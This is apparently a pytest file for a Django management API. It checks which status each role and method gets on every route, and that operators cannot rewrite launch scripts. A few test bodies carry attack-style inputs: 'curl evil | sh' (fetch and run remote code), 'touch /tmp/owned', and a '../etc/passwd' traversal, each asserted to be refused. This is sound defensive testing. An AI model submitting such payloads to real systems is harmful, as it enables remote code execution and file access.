"""Every Management API route x every caller x every method: the status each one gets.

The routes come from the URLconf itself (tests.api.conftest.api_routes), and the matrix below
must name every one of them: a route added later without an entry here fails
``test_the_matrix_names_every_route``. The expected permission of each cell is written here by
hand (the specification), not read from the code under test; what each role holds is spelled
out in ``ROLE_HOLDS`` the same way.

Callers: anonymous, a staff user with no permission, a viewer, an operator, an admin (the
three role groups the migration creates) and the bootstrap OBLETH_ADMIN_TOKEN. A denied caller
gets 401 (anonymous) or 403; an allowed one gets the route's own answer (2xx, or 4xx for an
empty body / an unknown id, or 405 for a method the route does not take: the permission is
checked first, so a caller without it cannot even learn that).

OPTIONS is not in the matrix: on this branch it still crashes on two routes (issue 7, fixed by
the strict-inputs work); add "options" to METHODS (view permission, 200) once it answers.

Nothing is faked: real groups, real sessions, the real URLconf; Slurm is not configured, so the
two Slurm routes answer from the database without any network.
"""

from __future__ import annotations

import dataclasses
import uuid
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.urls import reverse
from rest_framework.test import APIClient

from obleth.core.models import Replica
from tests.api.conftest import api_routes
from tests.plugins.factories import ADMIN_TOKEN, make_model, make_slurm_model

pytestmark = pytest.mark.django_db

METHODS = ("get", "post", "put", "patch", "delete")
CALLERS = ("anonymous", "staff", "viewer", "operator", "admin", "admin_token")

#: What each role may do, as the product guide states it (issue 7).
OPERATOR_EXTRA = {
    "core.add_model",
    "core.change_model",
    "core.add_managedspec",
    "core.change_managedspec",
    "core.delete_managedspec",
    "core.deploy",
    "core.dismiss_error",
    "core.restart_replica",
    "core.clear_lost",
    "core.read_job_log",
}


def _is_view(perm: str) -> bool:
    return perm.split(".", 1)[1].startswith("view_") and perm != "accounts.view_apitoken"


ROLE_HOLDS = {
    "anonymous": lambda perm: False,
    "staff": lambda perm: False,
    "viewer": _is_view,
    "operator": lambda perm: _is_view(perm) or perm in OPERATOR_EXTRA,
    "admin": lambda perm: True,
    "admin_token": lambda perm: True,
}

STAFF = "any staff"  # a route every staff member may use (schema, docs, own tokens)


@dataclasses.dataclass(frozen=True)
class Cell:
    needs: tuple[str, ...] | str  # permissions, or STAFF
    ok: frozenset[int]  # what an allowed caller gets
    overrides: tuple[tuple[str, int], ...] = ()  # caller -> status, where it differs

    def expected(self, caller: str) -> set[int]:
        for who, code in self.overrides:
            if who == caller:
                return {code}
        if caller == "anonymous":
            return {401}
        if self.needs == STAFF:
            allowed = caller != "anonymous"
        else:
            allowed = all(ROLE_HOLDS[caller](p) for p in self.needs)
        return set(self.ok) if allowed else {403}


def need(*perms: str, ok: set[int] | int, overrides: dict[str, int] | None = None) -> Cell:
    codes = frozenset({ok} if isinstance(ok, int) else ok)
    return Cell(tuple(perms), codes, tuple((overrides or {}).items()))


def staff(ok: set[int] | int, overrides: dict[str, int] | None = None) -> Cell:
    codes = frozenset({ok} if isinstance(ok, int) else ok)
    return Cell(STAFF, codes, tuple((overrides or {}).items()))


def model_viewset(
    list_name: str, detail_name: str | None, label: str, *, writable: bool
) -> dict[tuple[str, str], Cell]:
    """A router's list and detail routes over model ``label`` ("core.model")."""
    app, model = label.split(".")

    def p(action: str) -> str:
        return f"{app}.{action}_{model}"

    cells = {
        (list_name, "get"): need(p("view"), ok=200),
        (list_name, "post"): need(p("add"), ok=400 if writable else 405),
        (list_name, "put"): need(p("change"), ok=405),
        (list_name, "patch"): need(p("change"), ok=405),
        (list_name, "delete"): need(p("delete"), ok=405),
    }
    if detail_name:
        cells |= {
            (detail_name, "get"): need(p("view"), ok=404),
            (detail_name, "post"): need(p("add"), ok=405),
            (detail_name, "put"): need(p("change"), ok=404 if writable else 405),
            (detail_name, "patch"): need(p("change"), ok=404 if writable else 405),
            (detail_name, "delete"): need(p("delete"), ok=404 if writable else 405),
        }
    return cells


def action_route(name: str, perm: str, read_perm: str, ok: int) -> dict[tuple[str, str], Cell]:
    """A POST-only action: reads need ``read_perm`` then get 405; writes need ``perm``."""
    return {
        (name, "get"): need(read_perm, ok=405),
        (name, "post"): need(perm, ok=ok),
        (name, "put"): need(perm, ok=405),
        (name, "patch"): need(perm, ok=405),
        (name, "delete"): need(perm, ok=405),
    }


MATRIX: dict[tuple[str, str], Cell] = {
    **model_viewset("api:model-list", "api:model-detail", "core.model", writable=True),
    **model_viewset(
        "api:model-endpoint-list", "api:model-endpoint-detail", "core.endpoint", writable=True
    ),
    **model_viewset("api:endpoint-list", "api:endpoint-detail", "core.endpoint", writable=False),
    **model_viewset("api:managed-list", None, "core.managedspec", writable=False),
    **model_viewset("api:replica-list", "api:replica-detail", "core.replica", writable=False),
    **model_viewset("api:model-replica-list", None, "core.replica", writable=False),
    **model_viewset("api:launch-list", "api:launch-detail", "core.launch", writable=False),
    **model_viewset("api:recipe-list", "api:recipe-detail", "core.recipe", writable=True),
    **model_viewset("api:alert-list", "api:alert-detail", "core.alert", writable=False),
    **model_viewset("api:audit-list", "api:audit-detail", "accounts.auditentry", writable=False),
    **model_viewset(
        "api:gateway-key-list", "api:gateway-key-detail", "gateway.gatewaykey", writable=True
    ),
    **action_route(
        "api:gateway-key-revoke", "gateway.change_gatewaykey", "gateway.view_gatewaykey", 404
    ),
    # Job logs may hold secrets: operators and admins, not viewers (issue 11).
    ("api:replica-log", "get"): need("core.read_job_log", ok=404),
    ("api:replica-log", "post"): need("core.read_job_log", ok=405),
    ("api:replica-log", "put"): need("core.read_job_log", ok=405),
    ("api:replica-log", "patch"): need("core.read_job_log", ok=405),
    ("api:replica-log", "delete"): need("core.read_job_log", ok=405),
    **action_route("api:replica-restart", "core.restart_replica", "core.view_replica", 404),
    **action_route("api:model-replica-clear-lost", "core.clear_lost", "core.view_replica", 200),
    **action_route("api:slurm-test", "core.change_slurmsettings", "core.view_slurmsettings", 400),
    **{
        ("api:deploy", m): need(
            "core.deploy", "core.add_model", "core.add_managedspec", ok=400 if m == "post" else 405
        )
        for m in METHODS
    },
    ("api:recipe-library", "get"): need("core.view_recipe", ok=200),
    ("api:recipe-library", "post"): need("core.add_recipe", ok=405),
    ("api:recipe-library", "put"): need("core.change_recipe", ok=405),
    ("api:recipe-library", "patch"): need("core.change_recipe", ok=405),
    ("api:recipe-library", "delete"): need("core.delete_recipe", ok=405),
    # The managed spec of a model that has one (launched by a launch_command).
    ("api:model-managed", "get"): need("core.view_managedspec", ok=200),
    ("api:model-managed", "post"): need("core.change_managedspec", ok=405),
    # PUT {} returns every field to its default: that rewrites the spec's shell too.
    ("api:model-managed", "put"): need(
        "core.change_managedspec", "core.change_launch_script", ok=400
    ),
    ("api:model-managed", "patch"): need("core.change_managedspec", ok=200),
    ("api:model-managed", "delete"): need("core.delete_managedspec", ok=204),
    ("api:model-provision-error", "get"): need("core.view_managedspec", ok=405),
    ("api:model-provision-error", "post"): need("core.dismiss_error", ok=405),
    ("api:model-provision-error", "put"): need("core.dismiss_error", ok=405),
    ("api:model-provision-error", "patch"): need("core.dismiss_error", ok=400),
    ("api:model-provision-error", "delete"): need("core.dismiss_error", ok=405),
    # A model's health history: read only, the model's view permission.
    **{
        ("api:model-health-history", m): need("core.view_model", ok=200 if m == "get" else 405)
        for m in METHODS
    },
    ("api:slurm-settings", "get"): need("core.view_slurmsettings", ok=200),
    ("api:slurm-settings", "post"): need("core.add_slurmsettings", ok=405),
    ("api:slurm-settings", "put"): need("core.change_slurmsettings", ok=200),
    ("api:slurm-settings", "patch"): need("core.change_slurmsettings", ok=200),
    ("api:slurm-settings", "delete"): need("core.delete_slurmsettings", ok=405),
    ("api:slurm-resources", "get"): need("core.view_slurmsettings", ok=200),
    ("api:slurm-resources", "post"): need("core.add_slurmsettings", ok=405),
    ("api:slurm-resources", "put"): need("core.change_slurmsettings", ok=405),
    ("api:slurm-resources", "patch"): need("core.change_slurmsettings", ok=405),
    ("api:slurm-resources", "delete"): need("core.delete_slurmsettings", ok=405),
    **{
        ("api:provisioner-status", m): need(
            "core.view_provisionerstatus", ok=200 if m == "get" else 405
        )
        for m in METHODS
    },
    # Own tokens: every staff member. The bootstrap token has no user to own a token.
    ("api:token-list", "get"): staff(ok=200),
    ("api:token-list", "post"): staff(ok=400, overrides={"admin_token": 403}),
    ("api:token-list", "put"): staff(ok=405),
    ("api:token-list", "patch"): staff(ok=405),
    ("api:token-list", "delete"): staff(ok=405),
    ("api:token-detail", "get"): staff(ok=404),
    ("api:token-detail", "post"): staff(ok=405),
    ("api:token-detail", "put"): staff(ok=405),
    ("api:token-detail", "patch"): staff(ok=405),
    ("api:token-detail", "delete"): staff(ok=404),
    # The job itself reports Slurm's warning signal, with its replica's key only: no user's
    # session or token is one, so every caller without that key gets 401 on every method.
    **{
        ("api:replica-drain-signal", m): staff(ok=401, overrides={c: 401 for c in CALLERS})
        for m in METHODS
    },
    **{("api:schema", m): staff(ok=200 if m == "get" else 405) for m in METHODS},
    **{("api:docs", m): staff(ok=200 if m == "get" else 405) for m in METHODS},
}

ROUTES = api_routes()


def test_the_matrix_names_every_route() -> None:
    """A new route (or method) cannot be missed, and no stale entry survives a removed route."""
    names = {name for _, name, _ in ROUTES}
    assert len(names) >= 30
    missing = sorted((n, m) for n in names for m in METHODS if (n, m) not in MATRIX)
    assert not missing, f"add these to MATRIX: {missing}"
    stale = sorted({n for n, _ in MATRIX} - names)
    assert not stale, f"no such routes any more: {stale}"


def _user(name: str, role: str | None) -> Any:
    user = get_user_model().objects.create_user(name, password="x", is_staff=True)
    if role:
        user.groups.add(Group.objects.get(name=role))
    return user


@pytest.fixture
def callers() -> dict[str, APIClient]:
    clients = {"anonymous": APIClient()}
    for caller, role in (
        ("staff", None),
        ("viewer", "viewer"),
        ("operator", "operator"),
        ("admin", "admin"),
    ):
        client = APIClient()
        client.force_login(_user(f"matrix-{caller}", role))
        clients[caller] = client
    token_client = APIClient()
    token_client.credentials(HTTP_AUTHORIZATION=f"Bearer {ADMIN_TOKEN}")
    clients["admin_token"] = token_client
    return clients


def _url(name: str, groups: dict[str, str], model_id: Any) -> str:
    kwargs: dict[str, Any] = {}
    for group in groups:
        if group == "model_id":
            kwargs[group] = model_id
        elif group == "pk":
            integer_pk = name in {"api:alert-detail", "api:audit-detail"}
            kwargs[group] = 987654321 if integer_pk else uuid.uuid4()
    return reverse(name, kwargs=kwargs)


@pytest.mark.parametrize(("route", "name", "groups"), ROUTES, ids=[r[1] for r in ROUTES])
def test_every_caller_gets_the_expected_status(
    callers: dict[str, APIClient], route: str, name: str, groups: dict[str, str]
) -> None:
    wrong = []
    for method in METHODS:
        cell = MATRIX[(name, method)]
        for caller in CALLERS:
            # A fresh world per call: a DELETE or PUT by one caller must not change the next.
            make_model(name=f"static-{uuid.uuid4().hex[:8]}")
            slurm = make_slurm_model(name=f"slurm-{uuid.uuid4().hex[:8]}")
            Replica.objects.create(model_id=slurm.pk, model_name=slurm.name, job_name="j")
            url = _url(name, groups, slurm.pk)
            response = getattr(callers[caller], method)(url, data={}, format="json")
            if response.status_code not in cell.expected(caller):
                wrong.append(
                    f"{method.upper()} {url} as {caller}: {response.status_code}, "
                    f"expected {sorted(cell.expected(caller))}"
                )
    assert not wrong, "\n".join(wrong)


def test_a_personal_token_carries_its_owners_role() -> None:
    """The same cells through a viewer's and an operator's personal tokens (no session)."""
    from obleth.accounts.services import create_token

    slurm = make_slurm_model(name="slurm-token")
    checks = [
        ("viewer", "get", reverse("api:model-list"), 200),
        ("viewer", "patch", reverse("api:slurm-settings"), 403),
        ("viewer", "post", reverse("api:recipe-list"), 403),
        ("viewer", "post", reverse("api:model-replica-clear-lost", args=[slurm.pk]), 403),
        ("operator", "post", reverse("api:model-replica-clear-lost", args=[slurm.pk]), 200),
        ("operator", "patch", reverse("api:slurm-settings"), 403),
        ("operator", "post", reverse("api:recipe-list"), 403),
        ("admin", "patch", reverse("api:slurm-settings"), 200),
    ]
    secrets = {
        role: create_token(_user(f"tok-{role}", role), "t").secret
        for role in ROLE_HOLDS
        if role in {"viewer", "operator", "admin"}
    }
    wrong = []
    for role, method, url, code in checks:
        client = APIClient()
        client.credentials(HTTP_AUTHORIZATION=f"Bearer {secrets[role]}")
        got = getattr(client, method)(url, data={}, format="json").status_code
        if got != code:
            wrong.append(f"{role} {method} {url}: {got} != {code}")
    assert not wrong, wrong


def test_staff_without_permission_cannot_change_slurm_settings_or_save_recipes() -> None:
    """The two findings of issue 7, as they were reported, with realistic bodies."""
    client = APIClient()
    client.force_login(_user("plain-staff", None))
    patch = client.patch(
        reverse("api:slurm-settings"), {"setup": "touch /tmp/owned"}, format="json"
    )
    assert patch.status_code == 403
    assert "core.change_slurmsettings" in patch.json()["error"]
    from tests.api.test_launches_recipes_alerts import GOOD_RECIPE

    post = client.post(
        reverse("api:recipe-list"), {"name": "x", "body": GOOD_RECIPE}, format="json"
    )
    assert post.status_code == 403
    from obleth.core.models import Recipe, SlurmSettings

    assert not Recipe.objects.exists()
    assert SlurmSettings.load().setup == ""


def test_an_operator_changes_scale_but_not_the_launch_script() -> None:
    slurm = make_slurm_model(name="slurm-shell")
    client = APIClient()
    client.force_login(_user("an-operator", "operator"))
    url = reverse("api:model-managed", args=[slurm.pk])
    assert client.patch(url, {"target_replicas": 3}, format="json").status_code == 200
    refused = client.patch(url, {"launch_command": "curl evil | sh"}, format="json")
    assert refused.status_code == 403
    assert "core.change_launch_script" in refused.json()["error"]
    same = client.patch(url, {"launch_command": slurm.managed_spec.launch_command}, format="json")
    assert same.status_code == 200  # sending the stored value back changes no shell
    slurm.managed_spec.refresh_from_db()
    assert slurm.managed_spec.target_replicas == 3
    assert "evil" not in slurm.managed_spec.launch_command


def test_an_operator_deploys_a_new_spec_only_with_the_deploy_permission() -> None:
    from obleth.core.choices import HostingMode

    model = make_model(name="slurm-new", hosting_mode=HostingMode.SLURM)
    url = reverse("api:model-managed", args=[model.pk])
    body = {"partition": "debug", "serving_port": 18000}
    viewer = APIClient()
    viewer.force_login(_user("v2", "viewer"))
    assert viewer.put(url, body, format="json").status_code == 403
    operator = APIClient()
    operator.force_login(_user("o2", "operator"))
    # No shell given: the spec is refused for what is missing, not for the role.
    answer = operator.put(url, body, format="json")
    assert answer.status_code == 400, answer.content
    with_shell = operator.put(url, {**body, "launch_command": "serve"}, format="json")
    assert with_shell.status_code == 403


def test_an_operator_deploys_a_library_recipe_but_cannot_rewrite_its_script() -> None:
    from obleth.core.models import ManagedSpec, Model

    operator = APIClient()
    operator.force_login(_user("deployer", "operator"))
    url = reverse("api:deploy")
    body = {
        "name": "demo-deployed",
        "library": "test-engine",
        "overrides": {"partition": "debug", "replicas": 1},
    }
    answer = operator.post(url, body, format="json")
    assert answer.status_code == 201, answer.content
    spec = ManagedSpec.objects.get(model__name="demo-deployed")
    assert spec.script_body and spec.target_replicas == 1
    edited = {**body, "name": "demo-2", "script": "#!/bin/bash\nid\n"}
    refused = operator.post(url, edited, format="json")
    assert refused.status_code == 403
    assert "core.change_launch_script" in refused.json()["error"]
    viewer = APIClient()
    viewer.force_login(_user("looker", "viewer"))
    assert viewer.post(url, {**body, "name": "demo-3"}, format="json").status_code == 403
    assert not Model.objects.filter(name__in=["demo-2", "demo-3"]).exists()
    bad = operator.post(url, {**body, "name": "demo-4", "library": "../etc/passwd"}, format="json")
    assert bad.status_code == 400 and "library" in bad.json()["fields"]
    both = operator.post(
        url, {"name": "x", "library": "vllm", "recipe": str(uuid.uuid4())}, format="json"
    )
    assert both.status_code == 400
